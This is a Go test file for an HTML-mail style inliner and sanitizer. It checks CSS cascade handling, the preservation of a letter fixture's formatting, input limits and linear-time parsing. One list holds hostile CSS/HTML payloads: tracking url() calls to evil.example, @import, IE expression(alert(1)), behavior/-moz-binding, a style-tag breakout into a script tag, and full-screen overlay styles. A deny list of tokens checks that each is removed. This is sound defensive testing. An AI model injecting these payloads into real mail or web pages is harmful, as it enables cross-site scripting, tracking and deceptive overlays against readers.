package mailhtml

import (
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync/atomic"
	"testing"

	"golang.org/x/net/html"
)

// features are the eleven style features of testdata/letter.html: the
// element marked data-f=name must end with each declaration listed.
var features = []struct {
	name  string
	decls map[string]string
}{
	{"logo", map[string]string{"width": "1.25in", "height": "0.4166in"}},                   // inline size of the cid: logo
	{"date", map[string]string{"text-align": "right"}},                                     // p.Datum
	{"family", map[string]string{"font-family": `"Calibri", sans-serif`, "margin": "0cm"}}, // p.MsoNormal
	{"size", map[string]string{"font-size": "14pt"}},                                       // inline beats p.MsoNormal's 11pt on the span
	{"bold", map[string]string{"font-weight": "bold", "color": "#c00000"}},                 // p.Waarschuwing
	{"collapse", map[string]string{"border-collapse": "collapse"}},                         // table.Bedragen
	{"shade", map[string]string{"background": "#d9e2f3"}},                                  // td.Kop
	{"border", map[string]string{"border": "solid windowtext 1pt", "border-top": "none"}},  // table.Bedragen td, then inline
	{"padding", map[string]string{"padding": "0cm 5.4pt 0cm 5.4pt"}},                       // inline
	{"link", map[string]string{"color": "#0563c1", "text-decoration": "underline"}},        // a:link
	{"color", map[string]string{"color": "#1f497d"}},                                       // inline
}

func TestInlineStylesKeepsTheLetter(t *testing.T) {
	raw, err := os.ReadFile("testdata/letter.html")
	if err != nil {
		t.Fatal(err)
	}
	out, err := InlineStyles(string(raw))
	if err != nil {
		t.Fatal(err)
	}
	for name, doc := range map[string]string{"inlined": out, "inlined and sanitized": testPolicy().Sanitize(out)} {
		t.Run(name, func(t *testing.T) {
			styles := stylesByFeature(t, doc)
			kept := 0
			for _, f := range features {
				ok := true
				for prop, want := range f.decls {
					if got := styles[f.name][prop]; got != want {
						t.Errorf("%s: %s is %q, want %q (style %v)", f.name, prop, got, want, styles[f.name])
						ok = false
					}
				}
				if ok {
					kept++
				}
			}
			t.Logf("%d of %d features kept", kept, len(features))
			if kept < 10 {
				t.Fatalf("only %d of %d features kept", kept, len(features))
			}
		})
	}
	// Outlook's negative table margin, its mso- properties and the rule
	// for narrow screens are dropped; the style blocks are gone (the one
	// in a conditional comment is a comment, which the sanitizer drops).
	assertInlined(t, out)
	clean := testPolicy().Sanitize(out)
	for _, bad := range []string{"-5.4pt", "mso-", "<style", "behavior", "@font-face", "16pt"} {
		if strings.Contains(clean, bad) {
			t.Errorf("the letter kept %q", bad)
		}
	}
}

// stylesByFeature maps each data-f name to its element's declarations.
func stylesByFeature(t *testing.T, doc string) map[string]map[string]string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]map[string]string{}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			var f, style string
			for _, a := range n.Attr {
				switch a.Key {
				case "data-f":
					f = a.Val
				case "style":
					style = a.Val
				}
			}
			if f != "" {
				out[f] = declMap(style)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	return out
}

func declMap(style string) map[string]string {
	m := map[string]string{}
	for _, d := range parseDeclarations(lexCSS(style)) {
		m[d.prop] = d.value
	}
	return m
}

func TestInlineStylesCascade(t *testing.T) {
	cases := []struct{ name, sheet, body, want string }{
		{"id beats class beats type", `#i{color:blue} .c{color:green} p{color:red}`, `<p id=i class=c>x</p>`, `color: blue`},
		{"later rule wins at equal specificity", `.a{color:red} .b{color:green}`, `<p class="a b">x</p>`, `color: green`},
		{"earlier rule loses even when listed last in class", `.b{color:green} .a{color:red}`, `<p class="a b">x</p>`, `color: red`},
		{"last declaration of a rule wins", `p{color:red;color:blue}`, `<p>x</p>`, `color: blue`},
		{"important declaration of a rule wins", `p{color:red !important;color:blue}`, `<p>x</p>`, `color: red`},
		{"universal selector", `*{color:red} p{font-weight:bold}`, `<p>x</p>`, `color: red; font-weight: bold`},
		{"own style beats the sheet", `#i{color:red}`, `<p id=i style="color:green">x</p>`, `color: green`},
		{"sheet important beats own style", `p{color:red !important}`, `<p style="color:green">x</p>`, `color: red`},
		{"own important beats sheet important", `p{color:red !important}`, `<p style="color:green !important">x</p>`, `color: green`},
		{"longhand and shorthand in cascade order", `p{margin-left:5px} .c{margin:0}`, `<p class=c>x</p>`, `margin-left: 5px; margin: 0`},
		{"shorthand then longhand", `.c{margin-left:5px} p{margin:0}`, `<p class=c>x</p>`, `margin: 0; margin-left: 5px`},
		{"descendant", `div p{color:red}`, `<div><section><p>x</p></section></div>`, `color: red`},
		{"child", `div>p{color:red}`, `<div><p>x</p></div>`, `color: red`},
		{"child needs the parent", `div>p{color:red}`, `<div><section><p>x</p></section></div>`, ``},
		{"adjacent", `h1+p{color:red}`, `<h1>t</h1><p>x</p>`, `color: red`},
		{"adjacent skips text, not elements", `h1+p{color:red}`, `<h1>t</h1><br><p>x</p>`, ``},
		{"sibling", `h1~p{color:red}`, `<h1>t</h1><br><p>x</p>`, `color: red`},
		{"first-child", `p:first-child{color:red}`, `<div><p>x</p></div>`, `color: red`},
		{"not first-child", `p:first-child{color:red}`, `<div><br><p>x</p></div>`, ``},
		{"last-child", `p:last-child{color:red}`, `<div><p>x</p></div>`, `color: red`},
		{"link", `a:link{color:red}`, `<p><a href="https://example.org/">x</a></p>`, `color: red`},
		{"link needs href", `a:link{color:red}`, `<p><a name=x>x</a></p>`, ``},
		{"attribute presence", `[data-x]{color:red}`, `<p data-x>x</p>`, `color: red`},
		{"attribute dash", `[lang|=en]{color:red}`, `<p lang=en-GB>x</p>`, `color: red`},
		{"attribute word", `[title~=b]{color:red}`, `<p title="a b c">x</p>`, `color: red`},
		{"attribute prefix", `a[href^="https:"]{color:red}`, `<a href="https://x">x</a>`, `color: red`},
		{"attribute suffix", `a[href$=".pdf"]{color:red}`, `<a href="/x.pdf">x</a>`, `color: red`},
		{"attribute substring", `a[href*=example]{color:red}`, `<a href="https://example.org">x</a>`, `color: red`},
		{"attribute case flag", `[title="AB" i]{color:red}`, `<p title=ab>x</p>`, `color: red`},
		{"hover is skipped, the group applies", `p:hover, .c{color:red}`, `<p class=c>x</p>`, `color: red`},
		{"hover alone applies nowhere", `p:hover{color:red}`, `<p>x</p>`, ``},
		{"pseudo-element skipped", `p::before{color:red}`, `<p>x</p>`, ``},
		{"not() skipped", `p:not(.x){color:red}`, `<p>x</p>`, ``},
		{"screen media applies", `@media screen{p{color:red}}`, `<p>x</p>`, `color: red`},
		{"all media applies", `@media all, screen{p{color:red}}`, `<p>x</p>`, `color: red`},
		{"print media does not", `@media print{p{color:red}}`, `<p>x</p>`, ``},
		{"conditional media does not", `@media only screen and (max-width:600px){p{color:red}}`, `<p>x</p>`, ``},
		{"nested media does not", `@media screen{@media screen{p{color:red}}}`, `<p>x</p>`, ``},
		{"other at-rules dropped", `@import url(x.css); @font-face{font-family:x} @page{margin:0} @supports (display:grid){p{color:blue}} p{color:red}`, `<p>x</p>`, `color: red`},
		{"unsafe declarations dropped from rules", `p{position:fixed;z-index:9;color:red;background:url(x)}`, `<p>x</p>`, `color: red`},
		{"own style canonicalised", ``, `<p style="COLOR:RED;position:absolute">x</p>`, `color: red`},
		{"own style emptied", ``, `<p style="position:absolute">x</p>`, ``},
		{"broken rule skipped, next applies", `p{color:red;{}} p!{color:green} p{font-weight:bold}`, `<p>x</p>`, `color: red; font-weight: bold`},
		{"deep descendant chain", `div div div div div div div p{color:red}`, strings.Repeat("<div>", 300) + "<p>x</p>", `color: red`},
		{"deep chain that fails late", `section div div div div div div p{color:red}`, "<div>" + strings.Repeat("<div>", 300) + "<p>x</p>", ``},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out, err := InlineStyles(`<html><head><style>` + c.sheet + `</style></head><body>` + c.body + `</body></html>`)
			if err != nil {
				t.Fatal(err)
			}
			if got := lastStyle(t, out, "p", "a"); got != c.want {
				t.Fatalf("style %q, want %q\n%s", got, c.want, out)
			}
		})
	}
}

// lastStyle returns the style of the last element with one of the tags.
func lastStyle(t *testing.T, doc string, tags ...string) string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	style := ""
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			for _, tag := range tags {
				if n.Data == tag {
					style = ""
					for _, a := range n.Attr {
						if a.Key == "style" {
							style = a.Val
						}
					}
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	return style
}

func TestInlineStylesRemovesStyleElements(t *testing.T) {
	doc := `<html><head><style>p{color:red}</style><style media="print">p{font-weight:bold}</style>` +
		`<style type="text/less">p{font-style:italic}</style></head><body><style>p{margin:0}</style>` +
		`<svg><style>p{padding:0}</style></svg><p style="color:red;color:blue">x</p></body></html>`
	out, err := InlineStyles(doc)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(strings.ToLower(out), "<style") {
		t.Fatalf("a style element is left: %s", out)
	}
	if got := lastStyle(t, out, "p"); got != "margin: 0; padding: 0; color: blue" {
		t.Fatalf("style %q", got)
	}
}

func TestInlineStylesRepeatedStyleAttribute(t *testing.T) {
	out, err := InlineStyles(`<p style="color:red" style="position:fixed">x</p>`)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Count(out, "style=") != 1 || !strings.Contains(out, `style="color: red"`) {
		t.Fatalf("repeated style attribute: %s", out)
	}
}

func TestInlineStylesLeavesUnstyledMailAlone(t *testing.T) {
	doc := `<p>Geen opmaak, <b>wel</b> een <a href="https://example.org">link</a>.`
	out, err := InlineStyles(doc)
	if err != nil || out != doc {
		t.Fatalf("InlineStyles changed an unstyled body: %q, %v", out, err)
	}
}

// hostileDocs try to overlay the portal, load something or run something
// through the mail's CSS.
var hostileDocs = []string{
	`<style>*{position:fixed!important;top:0;left:0;z-index:2147483647}</style><div>overlay</div>`,
	`<style>div{position:absolute;top:-100px;width:10000px;height:10000px;background:white}</style><div>x</div>`,
	`<style>body{background:url(https://evil.example/track.png)} p{background-image:url("https://evil.example/p.png")}</style><p>x</p>`,
	`<style>@import url(https://evil.example/x.css); @import "https://evil.example/y.css";</style><p>x</p>`,
	`<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)} p{font-family:x}</style><p>x</p>`,
	`<style>p{width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#xss)}</style><p>x</p>`,
	`<style>p{background:\75\72\6c(https://evil.example/e.png);list-style:u\72l(https://evil.example/l.png)}</style><p>x</p>`,
	`<style>p{font-family:"</style><script>alert(1)</script>"}</style><p>x</p>`,
	`<p style="color:red</style><script>alert(1)</script>">x</p>`,
	`<style>p{margin:-1000px 0 0 -1000px;margin-top:-50px}</style><p style="margin-left:-200px">x</p>`,
	`<style>p{z-index:99;position:relative;top:-300px}</style><p>x</p>`,
	`<style>p{behavior:url(#default#VML)} a{cursor:url(https://evil.example/c.cur),auto}</style><p><a href=#>x</a></p>`,
	`<style>@media screen{p{background:url(https://evil.example/m.png)}}</style><p>x</p>`,
	`<svg><style>p{background:url(https://evil.example/s.png)}</style></svg><p>x</p>`,
	`<link rel=stylesheet href="https://evil.example/l.css"><p style="background:url('https://evil.example/i.png')">x</p>`,
}

func TestInlineStylesHostile(t *testing.T) {
	p := testPolicy()
	for i, doc := range hostileDocs {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			out, err := InlineStyles(doc)
			if err != nil {
				t.Fatal(err)
			}
			assertInlined(t, out)
			clean := p.Sanitize(out)
			assertInlined(t, clean)
			low := strings.ToLower(clean)
			for _, bad := range []string{"url", "expression", "behavior", "binding", "z-index", "position: fixed",
				"position: absolute", "top:", "-1000px", "-200px", "-50px", "import", "evil.example", "<script", "<style", "<link"} {
				if strings.Contains(low, bad) {
					t.Fatalf("kept %q: %s", bad, clean)
				}
			}
		})
	}
}

// assertInlined checks an InlineStyles result: no style element is left
// and every style attribute is safe and canonical.
func assertInlined(t testing.TB, doc string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if n.Data == "style" {
				t.Fatalf("a style element is left: %q", doc)
			}
			for _, a := range n.Attr {
				if a.Key == "style" {
					assertSafeStyle(t, a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
}

// Nothing in InlineStyles or the policy may fetch what a mail names.
func TestInlineStylesFetchesNothing(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
	}))
	defer srv.Close()
	u := srv.URL
	doc := `<link rel=stylesheet href="` + u + `/l.css"><style>@import url(` + u + `/i.css); @import "` + u + `/j.css";` +
		`@font-face{font-family:f;src:url(` + u + `/f.woff)} p{background:url(` + u + `/b.png)}</style>` +
		`<p style="background-image:url(` + u + `/s.png)">x</p>`
	out, err := InlineStyles(doc)
	if err != nil {
		t.Fatal(err)
	}
	testPolicy().Sanitize(out)
	if n := hits.Load(); n != 0 {
		t.Fatalf("%d requests reached the server", n)
	}
}

func TestInlineStylesLimits(t *testing.T) {
	t.Run("input size", func(t *testing.T) {
		doc := "<style>p{color:red}</style>" + strings.Repeat("<p>x</p>", maxInlineInput/8)
		if _, err := InlineStyles(doc); !errors.Is(err, ErrTooLarge) {
			t.Fatalf("err = %v, want ErrTooLarge", err)
		}
	})
	t.Run("start tags", func(t *testing.T) {
		doc := "<style>p{color:red}</style>" + strings.Repeat("<b></b>", maxElements)
		if _, err := InlineStyles(doc); !errors.Is(err, ErrTooComplex) {
			t.Fatalf("err = %v, want ErrTooComplex", err)
		}
	})
	t.Run("implied elements", func(t *testing.T) {
		// 40,000 start tags build 80,000 elements (tbody and tr are implied).
		doc := "<style>p{color:red}</style>" + strings.Repeat("<table><td></table>", 20_000)
		if startTags(doc) > maxElements {
			t.Fatal("the pre-count alone refuses this document")
		}
		if _, err := InlineStyles(doc); !errors.Is(err, ErrTooComplex) {
			t.Fatalf("err = %v, want ErrTooComplex", err)
		}
	})
	t.Run("depth", func(t *testing.T) {
		doc := "<style>p{color:red}</style>" + strings.Repeat("<div>", 513)
		if _, err := InlineStyles(doc); !errors.Is(err, ErrTooComplex) {
			t.Fatalf("err = %v, want ErrTooComplex", err)
		}
	})
	t.Run("match work", func(t *testing.T) {
		// 10,000 elements × 1,000 selectors that can all match is over the
		// budget; the same sheet over a short letter is not.
		sheet := "<style>" + strings.Repeat(".a{color:red}", 1000) + "</style>"
		if _, err := InlineStyles(sheet + strings.Repeat(`<p class=a></p>`, 10_000)); !errors.Is(err, ErrTooComplex) {
			t.Fatalf("err = %v, want ErrTooComplex", err)
		}
		out, err := InlineStyles(sheet + strings.Repeat(`<p class=a></p>`, 100))
		if err != nil || !strings.Contains(out, `style="color: red"`) {
			t.Fatalf("a short letter with the same sheet: %v", err)
		}
	})
	t.Run("attributes looked at", func(t *testing.T) {
		var attrs strings.Builder
		for i := range maxAttrScan {
			fmt.Fprintf(&attrs, " a%d", i)
		}
		out, err := InlineStyles(`<style>[a0]{color:red} [data-x]{font-weight:bold}</style><p` + attrs.String() + ` data-x>x</p>`)
		if err != nil {
			t.Fatal(err)
		}
		if got := lastStyle(t, out, "p"); got != "color: red" {
			t.Fatalf("style %q: an attribute past the first %d was looked at", got, maxAttrScan)
		}
	})
	t.Run("selectors that cannot match cost nothing", func(t *testing.T) {
		sheet := "<style>" + strings.Repeat(".absent{color:red}", 5000) + "</style>"
		if _, err := InlineStyles(sheet + strings.Repeat(`<p class=a></p>`, 10_000)); err != nil {
			t.Fatal(err)
		}
	})
}

// Sheets shaped to make a parser rescan its input: each must take one
// pass, so these finish at once (a quadratic parser would take hours).
func TestInlineStylesLinearShapes(t *testing.T) {
	const n = 100_000
	for name, sheet := range map[string]string{
		"statement at-rules":    strings.Repeat("@a;", n) + "{}",
		"nested colour calls":   "p{color:" + strings.Repeat("rgb(", n) + "}",
		"nested functions":      "p{color:" + strings.Repeat("a(", n) + "}",
		"unclosed blocks":       strings.Repeat("p{", n),
		"unclosed brackets":     strings.Repeat("p[", n) + "{color:red}",
		"selector lists":        strings.Repeat("p,", n) + "p{color:red}",
		"long compound":         strings.Repeat(".a", n) + "{color:red}",
		"declarations":          "p{" + strings.Repeat("color:red;", n) + "}",
		"unclosed url":          "p{color:" + strings.Repeat("url(", n) + "}",
		"nested media":          strings.Repeat("@media screen{", n),
		"comments and escapes":  strings.Repeat(`/*x*/\72`, n),
		"important everywhere":  "p{" + strings.Repeat("color:red!important;", n) + "}",
		"attribute selectors":   strings.Repeat(`[a="b"]`, n) + "{color:red}",
		"combinator chains":     strings.Repeat("p>", n) + "p{color:red}",
		"many small rules":      strings.Repeat("p{color:red}", n/4),
		"brace and paren mixes": strings.Repeat("({[", n) + strings.Repeat(")}]", n),
	} {
		t.Run(name, func(t *testing.T) {
			out, err := InlineStyles("<style>" + sheet + "</style><p>x</p>")
			if err != nil {
				t.Fatal(err)
			}
			assertInlined(t, out)
		})
	}
}

// outlookLetter is testdata/letter.html grown to about size bytes by
// repeating its table rows and paragraphs, as long letters do.
func outlookLetter(tb testing.TB, size int) string {
	tb.Helper()
	raw, err := os.ReadFile("testdata/letter.html")
	if err != nil {
		tb.Fatal(err)
	}
	doc := string(raw)
	start, end := strings.Index(doc, "<tr>\n<td data-f=\"border\""), strings.Index(doc, "</table>")
	row := strings.ReplaceAll(doc[start:end], ` data-f="border"`, "")
	row = strings.ReplaceAll(row, ` data-f="padding"`, "")
	var b strings.Builder
	for b.Len()+len(doc) < size {
		b.WriteString(row)
	}
	return doc[:end] + b.String() + doc[end:]
}

func BenchmarkInlineStyles(b *testing.B) {
	doc := outlookLetter(b, 50<<10)
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := InlineStyles(doc); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkInlineAndSanitize is the whole sanitize-once step for styles:
// InlineStyles, then a user-content policy with AllowSafeStyles.
func BenchmarkInlineAndSanitize(b *testing.B) {
	doc := outlookLetter(b, 50<<10)
	p := testPolicy()
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for b.Loop() {
		out, err := InlineStyles(doc)
		if err != nil {
			b.Fatal(err)
		}
		p.Sanitize(out)
	}
}

// BenchmarkInlineStylesHostile is a sheet built to make backtracking
// matchers explode: long descendant chains over deep nesting.
func BenchmarkInlineStylesHostile(b *testing.B) {
	var sheet strings.Builder
	sheet.WriteString("<style>")
	for i := range 500 {
		fmt.Fprintf(&sheet, "div div div div div div div p.c%d{color:red}", i%50)
	}
	sheet.WriteString("</style>")
	doc := sheet.String() + strings.Repeat("<div>", 500) + strings.Repeat(`<p class="c1 c2">x</p>`, 2000)
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := InlineStyles(doc); err != nil {
			b.Fatal(err)
		}
	}
}
